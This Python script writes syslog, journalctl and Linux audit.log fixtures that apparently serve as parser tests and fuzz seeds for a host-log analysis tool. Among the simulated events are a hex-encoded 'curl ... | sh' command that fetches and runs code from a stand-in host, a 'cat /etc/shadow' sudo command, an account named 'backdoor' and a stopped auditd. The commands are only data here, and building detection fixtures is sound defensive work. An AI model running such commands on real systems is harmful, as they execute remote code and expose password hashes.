#!/usr/bin/env python3
"""Writes syslog and audit.log edge-case fixtures into DIR (tests/cli/hostlog_edge.sh sets
their mtimes; tests/fuzz/seed_fuzz_hostlogs.sh uses them as seeds).

rollover.log   BSD lines across New Year (file time 2025-01-02): December is 2024
later.log      a month after the file time's month (file time 2025-06-15): previous year
variants.log   one line per header form and per normalised event kind, in a known order
journal.txt    journalctl text output (-o short-iso) with its "-- ... --" markers
audit.log      RAW records: node= prefix, hex fields, EXECVE split over records and chunks
audit_enriched.log  the same kinds in log_format=ENRICHED (0x1d, then translations)
"""
import os, sys

out = sys.argv[1]
os.makedirs(out, exist_ok=True)

def write(name, lines):
    with open(os.path.join(out, name), "w", encoding="utf-8", newline="\n") as f:
        for l in lines:
            f.write(l + "\n")

write("rollover.log", [
    "Dec 30 23:59:59 web1 sshd[100]: Accepted password for alice from 203.0.113.5 port 50000 ssh2",
    "Dec 31 12:00:00 web1 CRON[101]: (root) CMD (run-parts /etc/cron.daily)",
    "Jan  1 00:00:01 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
    "Jan  2 09:30:00 web1 su[102]: (to root) alice on pts/0",
])
write("later.log", [
    "Sep  1 10:00:00 db1 systemd[1]: Started Session 1 of user bob.",
    "Jun 15 08:00:00 db1 systemd[1]: Stopped Daily apt upgrade and clean activities.",
])
# Each line: a header form or event kind (the test reads them back by line number).
write("variants.log", [
    "<38>Mar  7 04:02:16 host1 sshd[7]: Failed password for invalid user admin from 198.51.100.7 port 4242 ssh2",
    "2024-03-07T04:02:16.123456+09:00 host1 sshd[8]: Accepted publickey for deploy from 2001:db8::1 port 22 ssh2: ED25519 SHA256:abcdef",
    "<86>1 2024-03-07T04:02:17.5Z host1 sudo 9 ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"App\\]x\"] \ufeffbob : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/bash",
    "Mar  7 04:02:18 host1 kernel: [12345.678901] usb 1-1: new high-speed USB device",
    "Mar  7 04:02:19 host1 useradd[10]: new user: name=mallory, UID=1001, GID=1001, home=/home/mallory, shell=/bin/bash",
    "Mar  7 04:02:20 host1 userdel[11]: delete user 'mallory'",
    "Mar  7 04:02:21 host1 usermod[12]: add 'eve' to group 'sudo'",
    "Mar  7 04:02:22 host1 passwd[13]: pam_unix(passwd:chauthtok): password changed for eve",
    "Mar  7 04:02:23 host1 sshd[14]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.9  user=root",
    "Mar  7 04:02:24 host1 sshd[15]: Disconnected from invalid user oracle 192.0.2.10 port 5555 [preauth]",
    "Mar  7 04:02:25 host1 sshd[16]: error: maximum authentication attempts exceeded for root from 192.0.2.11 port 6666 ssh2 [preauth]",
    "Mar  7 04:02:26 host1 sshd[16]: message repeated 3 times: [ Failed password for root from 192.0.2.11 port 6666 ssh2]",
    "Mar  7 04:02:27 host1 su: FAILED su for root by eve",
    "Mar  7 04:02:28 host1 groupadd[17]: new group: name=ops, GID=2000",
    "Mar  7 04:02:29 host1 anacron: Job `cron.daily' terminated",
    "Mar  7 04:02:30 host1 python3[18]: Traceback (most recent call last):",
    "  File \"x.py\", line 1, in <module>",
    "Mar  7 04:02:31 host1 login[19]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure",
    "Mar  7 04:02:32 host1 sshd[20]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",
    "Mar  7 04:03:01 host1 CROND[21]: (root) CMD (run-parts /etc/cron.hourly)",
    "Mar  7 04:03:02 host1 passwd[22]: password for 'eve' changed by 'root'",
    "Mar  7 04:03:03 host1 gpasswd[23]: user eve added by root to group wheel",
    "Mar  7 04:03:04 host1 chage[24]: changed password expiry for eve",
    "Mar  7 04:03:05 host1 sshd[25]: Connection reset by authenticating user root 192.0.2.12 port 7777 [preauth]",
])
write("journal.txt", [
    "-- Logs begin at Thu 2024-03-07 04:00:00 JST, end at Thu 2024-03-07 05:00:00 JST. --",
    "2024-03-07T04:02:16+0900 host2 sshd[31]: Accepted password for bob from 192.0.2.4 port 2222 ssh2",
    "-- Reboot --",
    "2024-03-07T04:10:00+0900 host2 kernel: Linux version 6.1.0",
])

def hx(s):
    return s.encode().hex().upper()

argv = ["/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh", "tail"]
long_arg = "A" * 20
write("audit.log", [
    # one event (serial 100): SYSCALL, EXECVE with a hex argument, CWD, PATH, PROCTITLE
    "node=web1 type=SYSCALL msg=audit(1709784136.123:100): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=1 pid=4242 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"sh\" exe=\"/usr/bin/dash\" subj=unconfined key=\"exec_watch\"",
    "node=web1 type=EXECVE msg=audit(1709784136.123:100): argc=4 a0=\"/bin/sh\" a1=\"-c\" a2=%s a3=\"tail\"" % hx(argv[2]),
    "node=web1 type=CWD msg=audit(1709784136.123:100): cwd=%s" % hx("/tmp/my dir"),
    "node=web1 type=PATH msg=audit(1709784136.123:100): item=0 name=\"/bin/sh\" inode=131 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
    "node=web1 type=PROCTITLE msg=audit(1709784136.123:100): proctitle=%s" % hx("\0".join(argv)),
    # a long argument in chunks, then the rest of the arguments in a second EXECVE record
    "type=EXECVE msg=audit(1709784137.000:101): argc=3 a0=\"python3\" a1_len=20 a1[0]=%s a1[1]=%s" % (hx(long_arg[:8]), hx(long_arg[8:])),
    "type=EXECVE msg=audit(1709784137.000:101): a2=\"last\"",
    # user-space records with msg='...'
    "type=USER_LOGIN msg=audit(1709784138.5:102): pid=900 uid=0 auid=1001 ses=4 msg='op=login id=1001 exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.23 terminal=/dev/pts/1 res=failed'",
    "type=USER_CMD msg=audit(1709784139.250:103): pid=901 uid=1001 auid=1001 ses=4 msg='cwd=\"/home/eve\" cmd=%s exe=\"/usr/bin/sudo\" terminal=pts/1 res=success'" % hx("cat /etc/shadow"),
    "type=ADD_USER msg=audit(1709784140.000:104): pid=902 uid=0 auid=1001 ses=4 msg='op=adding user id=1002 exe=\"/usr/sbin/useradd\" acct=\"backdoor\" hostname=? addr=? terminal=pts/1 res=success'",
    "type=LOGIN msg=audit(1709784141.000:105): pid=903 uid=0 old auid=4294967295 new auid=1001 old ses=4294967295 new ses=5",
    "type=SERVICE_STOP msg=audit(1709784142.000:106): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
    "type=WRONGDATE msg=audit(1709784143): the stamp has no millis and no serial",
])
GS = "\x1d"
write("audit_enriched.log", [
    "type=SYSCALL msg=audit(1709784150.001:200): arch=c000003e syscall=133 success=yes exit=0 a0=7ffd a1=21b6 a2=0 a3=0 items=2 ppid=10 pid=11 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"mknod\" exe=\"/usr/bin/mknod\" key=(null)" + GS + "ARCH=x86_64 SYSCALL=mknod AUID=\"alice\" UID=\"root\" GID=\"root\"",
    "type=USER_AUTH msg=audit(1709784151.002:201): pid=12 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.50 addr=203.0.113.50 terminal=ssh res=failed'" + GS + "UID=\"root\" AUID=\"unset\"",
])
